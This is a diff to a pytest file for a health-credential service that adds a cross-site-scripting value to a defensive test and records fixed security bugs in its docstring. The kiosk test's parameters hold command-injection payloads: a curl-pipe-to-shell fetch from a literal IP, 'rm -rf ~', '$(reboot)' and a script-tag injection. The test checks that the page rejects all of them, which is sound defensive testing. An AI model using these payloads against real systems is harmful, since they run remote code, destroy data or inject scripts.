@@ -14,6 +14,10 @@ refused or bounded since.
 * the kiosk page showed staff a shell command built from the address's ``kiosk_id``;
 * an audit row rewritten with duplicate JSON members still verified (the chain read the last member,
   the ops figures the first);
+* 140 000 EU revocation hashes made a signed trust list no verifier accepts: whether a changed list
+  still fits is now measured before it is signed (the write paths that call it are the service's).
+
+Security headers on pages and API answers are tested in tests/test_pages_csp.py.
 """
 from __future__ import annotations
 
@@ -191,7 +195,8 @@ def test_the_checkpoint_page_applies_the_same_rules_to_national_keys(world):
 
 
 # --- 8. the kiosk page's staff hint ------------------------------------------------------------------
-@pytest.mark.parametrize("kiosk_id", ["k1;curl http://203.0.113.9/x|sh;#", "k1 $(reboot)", "k1\nrm -rf ~", "`id`"])
+@pytest.mark.parametrize("kiosk_id", ["k1;curl http://203.0.113.9/x|sh;#", "k1 $(reboot)", "k1\nrm -rf ~", "`id`",
+                                      "</script><script>window.__ran=1</script>"])
 def test_the_kiosk_shows_a_shell_command_only_for_a_credential_id(world, kiosk_id):
     from urllib.parse import quote
     from selenium.webdriver.common.by import By
@@ -203,6 +208,7 @@ def test_the_kiosk_shows_a_shell_command_only_for_a_credential_id(world, kiosk_i
         wait_for(driver, lambda d: hint.is_displayed())
         assert "healthcode credentials add" not in hint.text and "curl" not in hint.text
         assert "not a valid id" in hint.text
+        assert driver.execute_script("return window.__ran") is None          # data, never a script
         driver.get(f"{world.url}/kiosk?kiosk_id=bj-station-2")                 # a real id: the command
         hint = wait_for(driver, lambda d: d.find_element(By.ID, "staff"))
         assert "healthcode credentials add --role kiosk --id bj-station-2 --kiosk-id bj-station-2" in hint.text
